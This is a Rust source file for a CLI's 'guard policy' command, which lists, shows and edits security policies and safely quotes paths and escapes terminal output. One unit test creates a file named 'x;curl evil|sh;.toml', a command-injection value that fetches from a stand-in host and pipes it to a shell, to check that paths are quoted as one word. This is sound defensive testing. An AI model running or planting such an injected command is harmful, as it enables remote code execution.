//! `guard policy`: which policies have a name, what is in them, and a copy to change. What a fleet has, guardd alone knows; the rest
//! needs none.

use std::ffi::OsString;
use std::fs::{self, File, Metadata};
use std::io::{self, IsTerminal as _, Write as _};
use std::os::unix::fs::MetadataExt as _;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

use guard_policy::{self as policy, Severity};
use guard_proto::{Call, Failure, SessionsReply};
use serde::Serialize;

use crate::args::PolicyVerb;
use crate::around::Fleet;
use crate::error::{CliError, Exit};
use crate::misplaced::is_program;
use crate::person::Person;
use crate::policy::named::{self, NamedPolicy};
use crate::policy::{apply, valid};
use crate::policy_file::{
    INSTALLED, PolicyFile, ask, dirs, dirs_of_guardd, is_file, is_machines, is_policy, personal,
};
use crate::render::escape::escaped;
use crate::render::page::{BAD, Page, STRONG};
use crate::render::status::Broken;
use crate::render::time::Clock;
use crate::render::{Output, command_line, path_word};

/// A policy that has a name.
#[derive(Debug, Serialize)]
struct Named {
    name: String,
    /// Null: it is built in, or the fleet's.
    file: Option<PathBuf>,
    /// What it says of itself in its first comment, if this user may read that.
    description: Option<String>,
    /// What is wrong with it first: nothing runs under it. Null: nothing, or this user may not read it.
    error: Option<String>,
    /// Whether it is the fleet's.
    fleet: bool,
    /// Whether it lies around each session.
    around: bool,
    /// Where it is, in words.
    #[serde(skip)]
    place: String,
}

/// The same, with its text.
#[derive(Debug, Serialize)]
struct ShownPolicy {
    #[serde(flatten)]
    named: Named,
    text: String,
}

/// A copy that was edited, or is to be.
#[derive(Debug, Serialize)]
struct Edited {
    name: String,
    file: PathBuf,
    /// Whether the copy was made just now.
    copied: bool,
    /// Whether an editor was opened.
    opened: bool,
    /// Whether guardd looks there; null: none runs, or it is a person's own.
    read: Option<bool>,
    /// Whether it is a person's own, which `guard run` reads.
    own: bool,
}

/// `guard policy`
pub(crate) fn policy(verb: PolicyVerb, output: Output) -> Result<Exit, CliError> {
    match verb {
        PolicyVerb::List => {
            Fleet::known().tell(output);
            let under = || ask(&Call::Sessions {}).and_then(Result::ok);
            output.print(all(Fleet::known()).as_slice(), |all, clock| {
                let mut page = list(all, clock);
                let under: SessionsReply = under().unwrap_or_default();
                apply::note(&mut page, &under.sessions);
                page
            })?;
        }
        PolicyVerb::Show { name } => {
            Fleet::known().tell(output);
            show(name, output)?;
        }
        PolicyVerb::Edit { name, policy_dir } => {
            return edit(&name, policy_dir.as_deref(), output);
        }
        // Those have modules of their own.
        PolicyVerb::Apply(_)
        | PolicyVerb::Check(_)
        | PolicyVerb::Sign(_)
        | PolicyVerb::Offer { .. } => {}
    }
    Ok(Exit::DONE)
}

impl Named {
    fn of(known: NamedPolicy, of_fleet: &Fleet) -> Self {
        let place = known.place();
        let NamedPolicy {
            name,
            file,
            is_fleets: fleet,
            is_around: around,
        } = known;
        let shipped = || {
            let mut shipped = policy::SHIPPED.iter();
            let (_, text) = shipped.find(|(known, _)| *known == name)?;
            Some((*text).to_owned())
        };
        let text = match &file {
            _ if fleet => of_fleet.policy(&name).ok().flatten().map(|file| file.text),
            Some(file) => PolicyFile::read_kept(file).ok().map(|file| file.text),
            None => shipped(),
        };
        Self {
            description: text.as_deref().and_then(description),
            error: file.as_deref().and_then(error),
            around,
            fleet,
            name,
            file,
            place,
        }
    }
}

/// What a policy is for: its first comment, up to where that goes on with what it does.
fn description(text: &str) -> Option<String> {
    let lines = text.lines().map_while(|line| line.strip_prefix('#'));
    let lines = lines.map(str::trim).take_while(|line| !line.is_empty());
    let words = lines.collect::<Vec<_>>().join(" ");
    let ends = |(at, sign): (usize, char)| {
        let next = words[at + sign.len_utf8()..].chars().next();
        ".:".contains(sign) && next.is_none_or(char::is_whitespace)
    };
    let end = words.char_indices().find(|one| ends(*one));
    let words = &words[..end.map_or(words.len(), |(at, _)| at)];
    (!words.is_empty()).then(|| escaped(words, DESCRIPTION))
}

/// A description has no more characters.
const DESCRIPTION: usize = 80;

/// What is wrong with a policy's file first; none as well where it cannot be read.
fn error(file: &Path) -> Option<String> {
    if fs::metadata(file).is_ok_and(|is| !is.is_file()) {
        return Some("it is no regular file".to_owned());
    }
    let file = PolicyFile::read_kept(file).ok()?;
    let wrong = valid(&file).err()?;
    let first = wrong.iter().find(|one| one.severity == Severity::Error)?;
    Some(format!("line {}: {}", first.line, first.message))
}

/// The files in these directories that are no policies, though they are called so.
pub(crate) fn broken(dirs: &[PathBuf]) -> Vec<Broken> {
    let files = dirs.iter().flat_map(fs::read_dir).flatten().flatten();
    let broken = files.filter_map(|entry| {
        let name = entry.file_name().into_string().ok()?;
        let name = name.strip_suffix(".toml")?.to_owned();
        let file = entry.path();
        let error = error(&file)?;
        Some(Broken { name, file, error })
    });
    let mut broken: Vec<_> = broken.collect();
    broken.sort_by(|one, other| one.file.cmp(&other.file));
    broken
}

/// All of them, by name.
fn all(of_fleet: &Fleet) -> Vec<Named> {
    let all = named::all(of_fleet).into_iter();
    all.map(|one| Named::of(one, of_fleet)).collect()
}

fn list(all: &[Named], _clock: &Clock) -> Page {
    let mut page = Page::default();
    let rows = all.iter().map(|one| {
        let is = if one.error.is_some() { " (broken)" } else { "" };
        let about = one.description.clone().unwrap_or_default();
        [one.name.clone(), format!("{}{is}", one.place), about]
    });
    page.table(["NAME", "FROM", "ABOUT"], rows);
    for one in all {
        if let (Some(file), Some(error)) = (&one.file, &one.error) {
            page.styled(BAD, "broken").text("  ");
            page.line(format_args!("{}, {error}", file.display()));
            if file.is_file() {
                page.commands(format_args!("guard check {}", path_word(file)));
            }
        }
    }
    if let Some(around) = all.iter().find(|one| one.around) {
        page.styled(STRONG, &around.name)
            .line(" lies around each session: what it does not let through, no other policy does.");
    }
    page
}

fn show(name: String, output: Output) -> Result<(), CliError> {
    check_name(&name, "policy show", "cat")?;
    let text = PolicyFile::named(&name)?.text;
    if output.is_json() {
        let fleet = Fleet::known();
        let named = Named::of(NamedPolicy::of(name, fleet), fleet);
        return output.print(&ShownPolicy { named, text }, |_, _| Page::default());
    }
    let mut out = io::stdout().lock();
    // As it is, so that it can be written to a file; but a terminal obeys some of what may stand in a comment.
    let text = if out.is_terminal() {
        on_terminal(&text)
    } else {
        text
    };
    let said = out.write_all(text.as_bytes()).and_then(|()| out.flush());
    said.map_err(|error| CliError::output(&error))
}

/// A text whose lines and tabs stay, and nothing else that steers a terminal.
fn on_terminal(text: &str) -> String {
    let line = |line: &str| {
        let parts = line.split('\t').map(|part| escaped(part, usize::MAX));
        parts.collect::<Vec<_>>().join("\t") + "\n"
    };
    text.lines().map(line).collect()
}

fn edit(name: &str, named: Option<&Path>, output: Output) -> Result<Exit, CliError> {
    check_name(name, "policy edit", "open it in your editor:")?;
    is_not_fleets(name, Fleet::known())?;
    let place = PlaceToEdit::of(name, named);
    let file = &place.file;
    let is_terminal = io::stdin().is_terminal() && io::stdout().is_terminal();
    let is_edited = is_terminal && !output.is_json();
    let copied = if is_edited || file.exists() {
        make_writable(file, name, place.dir, &place.fix)?
    } else {
        return Err(uncopied(file, name, &place.again)?.into());
    };
    let begun = Instant::now();
    let opened = is_edited.then(|| open(file)).transpose();
    let is_back_at_once = matches!(opened, Ok(Some(true))) && begun.elapsed() < AT_ONCE;
    if let Some(copied) = &copied {
        if is_back_at_once && copied.is_as_made(file) {
            let page = gone_on(name, file, &place.again);
            output.print(&(), |(), _| page)?;
            return Ok(Exit::DONE);
        }
        if copied.is_taken_back(file) {
            let opened = opened.map_err(|failure| Failure {
                fix: format!("set EDITOR to another, or {}", by_hand(file, name)),
                ..failure
            });
            let page = unchanged(name, file, opened?.unwrap_or_default());
            output.print(&(), |(), _| page)?;
            return Ok(Exit::DONE);
        }
    }
    let opened = opened?.unwrap_or_default();
    place.keep(copied.is_some(), opened, output)
}

/// Where a policy is changed.
struct PlaceToEdit<'p> {
    name: &'p str,
    dir: &'p Path,
    file: PathBuf,
    /// Whether it is the person's own.
    is_own: bool,
    /// What was typed.
    again: String,
    /// What to type where it cannot be written.
    fix: String,
}

impl<'p> PlaceToEdit<'p> {
    /// In the directory that was named, else where policies usually are.
    fn of(name: &'p str, named: Option<&'p Path>) -> Self {
        let usual = dirs()
            .first()
            .map_or(Path::new(INSTALLED[0]), PathBuf::as_path);
        let dir = named.unwrap_or(usual);
        let is_usual = dir == usual;
        // What a person wrote for themselves is changed where it is.
        let own = (is_usual && !is_machines(name)).then(|| personal(name, &Person::own()));
        let own = own.flatten();
        let again = again(name, dir);
        let fix = match own {
            Some(_) => again.clone(),
            None if is_usual => format!(
                "change it for everybody, or have a file of your own:\nsudo {again}\n{}",
                own_copy(name)
            ),
            None => format!("sudo {again}"),
        };
        Self {
            name,
            dir,
            is_own: own.is_some(),
            file: own.unwrap_or_else(|| dir.join(format!("{name}.toml"))),
            again,
            fix,
        }
    }

    /// Checks what an editor has left, and says what follows from it.
    fn keep(self, is_copied: bool, is_opened: bool, output: Output) -> Result<Exit, CliError> {
        if is_opened {
            PolicyFile::read(&self.file)?
                .parse(output)
                .map_err(|error| retry(error, &self.again))?;
        }
        let read = dirs_of_guardd().filter(|_| !self.is_own);
        let dir = std::path::absolute(self.dir).unwrap_or_else(|_| self.dir.to_owned());
        let edited = Edited {
            name: self.name.to_owned(),
            file: self.file,
            copied: is_copied,
            opened: is_opened,
            read: read.map(|dirs| dirs.contains(&dir)),
            own: self.is_own,
        };
        output.print(&edited, next)?;
        if edited.own && is_opened {
            apply::offer(&edited.file, self.name, output)?;
        }
        Ok(Exit::DONE)
    }
}

/// An editor that is back sooner has left its window to the person, as `code` does without `--wait`.
const AT_ONCE: Duration = Duration::from_secs(2);

/// A copy that was made just now.
struct Copied {
    text: String,
    /// The state of the copy when it was made.
    made: FileState,
    /// The directory, where that was made for it.
    dir: Option<PathBuf>,
}

/// Which file it is, and when it was last written.
#[derive(Debug, PartialEq, Eq)]
struct FileState {
    device: u64,
    inode: u64,
    seconds: i64,
    nanoseconds: i64,
}

impl FileState {
    fn of(about: &Metadata) -> Self {
        Self {
            device: about.dev(),
            inode: about.ino(),
            seconds: about.mtime(),
            nanoseconds: about.mtime_nsec(),
        }
    }
}

impl Copied {
    /// Whether nobody has saved it. Whoever has, be it in the same words, may have it open.
    fn is_as_made(&self, file: &Path) -> bool {
        let is_same = fs::read(file).is_ok_and(|text| text == self.text.as_bytes());
        let about = file.symlink_metadata();
        is_same && about.is_ok_and(|about| FileState::of(&about) == self.made)
    }

    /// Whether it is gone again, as nobody has changed it: it would go before what the next version ships.
    fn is_taken_back(&self, file: &Path) -> bool {
        let is_gone = self.is_as_made(file) && fs::remove_file(file).is_ok();
        if let Some(dir) = self.dir.as_ref().filter(|_| is_gone) {
            // There may be something in it by now.
            let _ = fs::remove_dir(dir);
        }
        is_gone
    }
}

/// Why no copy is made where nobody is there to change it.
///
/// # Errors
///
/// That there is no policy of that name.
fn uncopied(file: &Path, name: &str, again: &str) -> Result<Failure, Failure> {
    PolicyFile::named(name)?;
    Ok(Failure {
        what: format!("{} was not written", file.display()),
        why: format!("it would be {name} unchanged: an editor opens at a terminal alone"),
        fix: format!("at a terminal:\nsudo {again}\nor {}", by_hand(file, name)),
    })
}

/// How a person makes the copy.
fn by_hand(file: &Path, name: &str) -> String {
    let word = path_word(file);
    format!(
        "make the copy, and change it:\nguard policy show {name} | sudo install -D -m 644 /dev/stdin {word}\nsudoedit {word}"
    )
}

/// Nothing was changed.
fn unchanged(name: &str, file: &Path, opened: bool) -> Page {
    let mut page = Page::default();
    page.styled(STRONG, name).line(format_args!(
        " is as it was: no copy is kept in {}, as it would be the same.",
        file.display()
    ));
    if !opened {
        page.line("No editor was found: set EDITOR, or");
        page.commands(by_hand(file, name));
    }
    page
}

/// The editor may still have it open.
fn gone_on(name: &str, file: &Path, again: &str) -> Page {
    let mut page = Page::default();
    page.styled(STRONG, name).line(format_args!(
        " is copied to {}, and unchanged so far: your editor came back at once.",
        file.display()
    ));
    page.line(
        "If its window is open, save it there. To have it waited for, and what you save checked:",
    );
    page.commands(format_args!("sudo EDITOR=\"code --wait\" {again}"));
    page.line(
        "If nothing is to change, remove the copy, which goes before what the next version ships:",
    );
    page.commands(format_args!("sudo rm {}", path_word(file)));
    page
}

/// Copies the policy to that file where there is none. Fails before an editor would find out that it may not write.
fn make_writable(
    file: &Path,
    name: &str,
    dir: &Path,
    fix: &str,
) -> Result<Option<Copied>, Failure> {
    let not_written = |why: io::Error| Failure {
        what: format!("cannot write {}", file.display()),
        why: match why.kind() {
            io::ErrorKind::PermissionDenied => "you may not: it takes root".to_owned(),
            _ => why.to_string(),
        },
        fix: fix.to_owned(),
    };
    if file.exists() {
        let written = File::options().append(true).open(file);
        return written.map(|_| None).map_err(not_written);
    }
    let text = PolicyFile::named(name)?.text;
    let made = (!dir.exists()).then(|| dir.to_owned());
    let state = copy(&text, dir, file).map_err(not_written)?;
    Ok(Some(Copied {
        text,
        made: state,
        dir: made,
    }))
}

/// A copy of the fleet's would count for nothing: that goes before it.
fn is_not_fleets(name: &str, fleet: &Fleet) -> Result<(), Failure> {
    match fleet.policy(name)? {
        None => Ok(()),
        Some(_) => Err(Failure {
            what: format!("cannot edit the policy {name}"),
            why: "it is the fleet's, and changed by those who sign it".to_owned(),
            fix: format!(
                "have a file of your own that begins with it:\n{}",
                own_copy(name)
            ),
        }),
    }
}

/// How a person makes a file of their own of it. With the name that it has there, it would be taken for the machine's.
fn own_copy(name: &str) -> String {
    format!(
        "guard policy show {name} > my-{name}.toml\nin it: name = \"my-{name}\"\nguard run --policy ./my-{name}.toml -- CMD"
    )
}

/// What was typed.
fn again(name: &str, dir: &Path) -> String {
    if dir == Path::new(INSTALLED[0]) {
        format!("guard policy edit {name}")
    } else {
        format!("guard policy edit {name} --policy-dir {}", path_word(dir))
    }
}

/// What is invalid is corrected by the same command.
fn retry(error: CliError, again: &str) -> CliError {
    match error {
        CliError::Local(failure) => CliError::Local(Failure {
            fix: format!(
                "until then guardd keeps to what it has read before; edit it again:\n{again}"
            ),
            ..failure
        }),
        other => other,
    }
}

/// Never over what is there.
fn copy(text: &str, dir: &Path, file: &Path) -> io::Result<FileState> {
    fs::create_dir_all(dir)?;
    let mut made = File::create_new(file)?;
    made.write_all(text.as_bytes())?;
    made.metadata().map(|about| FileState::of(&about))
}

/// Editors, where neither VISUAL nor EDITOR names one: sudo passes on neither.
const EDITORS: [&str; 3] = ["editor", "vi", "nano"];

/// Opens it in the person's editor, and waits; false where there is none.
fn open(file: &Path) -> Result<bool, Failure> {
    let named = ["VISUAL", "EDITOR"].iter().find_map(std::env::var_os);
    let named = named.filter(|editor| !editor.is_empty());
    let known = || {
        EDITORS
            .into_iter()
            .find(|editor| is_program(editor.as_ref()))
    };
    let Some(editor) = named.or_else(|| known().map(OsString::from)) else {
        return Ok(false);
    };
    // It may have arguments.
    let mut shell = Command::new("sh");
    shell.args(["-c", "exec $GUARD_EDITOR \"$1\"", "sh"]);
    let done = shell.arg(file).env("GUARD_EDITOR", &editor).status();
    let failed = |why: String| Failure {
        what: format!("your editor, {}, did not do it", editor.display()),
        why,
        fix: format!(
            "set EDITOR to another, or open it yourself:\n{}",
            path_word(file)
        ),
    };
    match done {
        Ok(status) if status.success() => Ok(true),
        Ok(status) if status.code() == Some(127) => {
            Err(failed("there is no such program".to_owned()))
        }
        Ok(status) => Err(failed(format!("it ended with {status}"))),
        Err(why) => Err(failed(why.to_string())),
    }
}

fn next(edited: &Edited, _clock: &Clock) -> Page {
    let (file, word) = (edited.file.display(), path_word(&edited.file));
    let mut page = Page::default();
    page.styled(STRONG, &edited.name).line(match edited.copied {
        true if edited.read == Some(false) => format!(" is copied to {file}."),
        true => format!(" is copied to {file}, which counts from now on."),
        false => format!(" is {file}."),
    });
    if edited.read == Some(false) {
        let dirs = dirs().iter().map(|dir| dir.display().to_string());
        let dirs = dirs.collect::<Vec<_>>().join(" and ");
        page.line(format_args!(
            "guardd does not look there: its policies are in {dirs}. As a file it can be run under:"
        ));
        page.commands(format_args!(
            "guard check {word}\nguard run --policy {word} -- CMD"
        ));
        return page;
    }
    if edited.own {
        let name = &edited.name;
        page.line(if edited.opened {
"It is valid, and judges what you start under it from now on:"
} else {
"Change it there. Sessions that run under it have it as it was, until you say otherwise:"
});
        page.commands(if edited.opened {
            format!("guard run --policy {name} -- CMD")
        } else {
            format!("guard check {word}\nguard policy apply {name}")
        });
        return page;
    }
    if edited.opened {
        page.line("It is valid. A guardd that runs has read it: what it enforces, and what it says of it:")
    } else {
        page.line("Change it there. A guardd that runs reads it when it is saved; check it before:")
    };
    page.commands(if edited.opened {
        "guard status".to_owned()
    } else {
        format!("guard check {word}\nguard status")
    });
    page
}

/// A file is read and edited by what files are; or the policy that is called like it is meant.
fn check_name(name: &str, verb: &str, otherwise: &str) -> Result<(), Failure> {
    if !is_file(name) {
        return Ok(());
    }
    let stem = Path::new(name).file_stem().and_then(|stem| stem.to_str());
    let fix = match stem.filter(|stem| !name.contains('/') && is_policy(stem)) {
        Some(stem) => format!("guard {verb} {stem}"),
        None => format!("{otherwise} {}", command_line(&[name.to_owned()])),
    };
    Err(Failure {
        what: format!("{name} is a file, and no policy's name"),
        why: "a name has no slash in it, and no .toml at its end".to_owned(),
        fix,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_pipe_among_policies_is_none_and_nobody_waits_for_it() {
        let home = tempfile::tempdir().unwrap();
        let policies = home.path().join(".config/guard/policies");
        fs::create_dir_all(&policies).unwrap();
        let pipe = policies.join("shop.toml");
        let made = Command::new("mkfifo").arg(&pipe).status().unwrap();
        assert!(made.success());
        assert_eq!(error(&pipe).as_deref(), Some("it is no regular file"));
        assert_eq!(broken(&[policies])[0].name, "shop");
        let refused = PolicyFile::read_kept(&pipe).unwrap_err();
        assert!(refused.why.contains("it is no regular file"), "{refused}");
        assert_eq!(personal("shop", &Person::of_home(home.path())), None);
    }

    /// What runs as the person chooses such a name.
    #[test]
    fn a_command_to_copy_has_a_path_as_one_word() {
        let dir = tempfile::tempdir().unwrap();
        let file = dir.path().join("x;curl evil|sh;.toml");
        fs::write(&file, "").unwrap();
        let word = format!("'{}'", file.display());
        let named = Named {
            name: "x".to_owned(),
            file: Some(file.clone()),
            description: None,
            error: Some("line 1: no".to_owned()),
            fleet: false,
            around: false,
            place: file.display().to_string(),
        };
        let clock = crate::render::examples::clock();
        let listed = list(&[named], &clock).plain();
        assert!(
            listed.contains(&format!("guard check {word}\n")),
            "{listed}"
        );
        let edited = Edited {
            name: "x".to_owned(),
            file: file.clone(),
            copied: true,
            opened: false,
            read: Some(false),
            own: false,
        };
        let edited = next(&edited, &clock).plain();
        assert!(
            edited.contains(&format!("guard run --policy {word} -- CMD")),
            "{edited}"
        );
        let invalid = PolicyFile {
            name: file.display().to_string(),
            text: "x".to_owned(),
        };
        let error = invalid.parse(Output::new(true)).unwrap_err();
        let fix = &error.failure().unwrap().fix;
        assert!(fix.ends_with(&format!("guard check {word}")), "{fix}");
    }

    #[test]
    fn what_the_fleet_has_is_listed_and_is_not_ones_own_to_edit() {
        let fleet = crate::around::tests::around("default = \"deny\"\n");
        let all = all(&fleet);
        let page = list(&all, &crate::render::examples::clock()).plain();
        for line in [
            "builds    the fleet\n",
            "floor     the fleet, around each session\n",
            "floor lies around each session",
        ] {
            assert!(page.contains(line), "{line}: {page}");
        }
        let refused = is_not_fleets("builds", &fleet).unwrap_err();
        assert!(
            refused.fix.contains(
                "guard policy show builds > my-builds.toml\nin it: name = \"my-builds\"\n"
            )
        );
        assert!(is_not_fleets("homelab", &fleet).is_ok());
    }

    #[test]
    fn a_policy_says_what_it_is_for_in_its_first_comment() {
        let all = all(&Fleet::None);
        let says = |name: &str| {
            let one = all.iter().find(|one| one.name == name).unwrap();
            // One that is installed may say something else.
            let is_shipped = one.file.is_none();
            is_shipped.then(|| one.description.clone().unwrap_or_default())
        };
        for (name, said) in [
            ("ci", "For a job that nobody watches"),
            ("homelab", "For a home server or a small network"),
        ] {
            assert!(says(name).is_none_or(|says| says == said), "{name}");
        }
        let listed = list(&all, &crate::render::examples::clock()).plain();
        let head = listed.lines().next().unwrap();
        assert!(head.ends_with("ABOUT"), "{listed}");
        assert_eq!(description("version = 1\n# late\n"), None);
        assert_eq!(description("#\n# late\n"), None);
        assert_eq!(description("# a v1.2\n# b\n").as_deref(), Some("a v1.2 b"));
        let hidden = description("# a\u{1b}[8mb\n").unwrap();
        assert!(!hidden.contains('\u{1b}'), "{hidden}");
    }

    #[test]
    fn a_copy_that_nobody_changed_is_taken_back_and_no_other() {
        let dir = tempfile::tempdir().unwrap();
        let policies = dir.path().join("policies");
        let file = policies.join("ci.toml");
        let made = || make_writable(&file, "ci", &policies, "").unwrap();
        assert!(made().unwrap().is_taken_back(&file));
        assert!(!file.exists() && !policies.exists());
        let copied = made().unwrap();
        assert!(made().is_none(), "it is there");
        fs::write(&file, format!("{}# mine\n", copied.text)).unwrap();
        assert!(!copied.is_taken_back(&file));
        assert!(fs::read_to_string(&file).unwrap().ends_with("# mine\n"));
        fs::remove_file(&file).unwrap();
        // Somebody saves it in the same words, as editors do: into another file, which takes its place.
        let copied = made().unwrap();
        let saved = policies.join("saved");
        fs::write(&saved, &copied.text).unwrap();
        fs::rename(&saved, &file).unwrap();
        assert!(!copied.is_taken_back(&file));
        assert!(file.exists());
    }

    #[test]
    fn what_ships_is_listed_and_can_be_copied_once() {
        let all = all(&Fleet::None);
        let names: Vec<_> = all.into_iter().map(|one| one.name).collect();
        for (shipped, text) in policy::SHIPPED {
            assert!(names.contains(&(*shipped).to_owned()), "{names:?}");
            let dir = tempfile::tempdir().unwrap();
            let (policies, file) = (
                dir.path().join("policies"),
                dir.path().join("policies/x.toml"),
            );
            copy(text, &policies, &file).unwrap();
            assert_eq!(fs::read_to_string(&file).unwrap(), *text);
            let again = copy("other", &policies, &file).unwrap_err();
            assert_eq!(again.kind(), io::ErrorKind::AlreadyExists);
        }
    }

    #[test]
    fn a_file_is_no_name_of_a_policy() {
        let show = |name| check_name(name, "policy show", "cat").map_err(|failure| failure.fix);
        assert_eq!(show("default"), Ok(()));
        for (name, fix) in [
            ("default.toml", "guard policy show default"),
            ("./default.toml", "cat ./default.toml"),
            ("my lab.toml", "cat 'my lab.toml'"),
        ] {
            assert_eq!(show(name), Err(fix.to_owned()));
        }
    }
}
